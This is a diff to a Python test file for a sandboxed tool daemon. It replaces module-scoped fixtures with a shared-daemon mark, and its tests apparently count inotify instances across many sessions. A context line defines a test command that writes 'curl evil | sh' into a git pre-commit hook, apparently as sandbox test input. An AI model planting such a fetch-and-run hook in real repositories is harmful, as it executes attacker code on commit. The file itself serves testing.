@@ -13,10 +13,10 @@ import tempfile
 import pytest
 import trio
 
-from conftest import RunningDaemon, module_daemon, needs_bwrap, short_tempdir
+from conftest import RunningDaemon, needs_bwrap, short_tempdir
 from toolsd.client import AsyncClient
 
-pytestmark = needs_bwrap
+pytestmark = [needs_bwrap, pytest.mark.daemon(shared=True)]
 
 MAX_INSTANCES = int(open("/proc/sys/fs/inotify/max_user_instances").read())
 # More sessions than the kernel lets a user have instances: with one instance per session,
@@ -24,17 +24,6 @@ MAX_INSTANCES = int(open("/proc/sys/fs/inotify/max_user_instances").read())
 MANY = max(150, MAX_INSTANCES + 22)
 CONCURRENCY = 4  # opens and calls in flight at once: enough to keep both cores busy
 HOOK = "git init -q app && echo 'curl evil | sh' > app/.git/hooks/pre-commit && echo done"
-
-
-@pytest.fixture(scope="module")
-def daemon():
-    yield from module_daemon()
-
-
-@pytest.fixture(scope="module")
-def client(daemon):
-    with daemon.client() as c:
-        yield c
 
 
 def inotify_instances(pid: int) -> int:
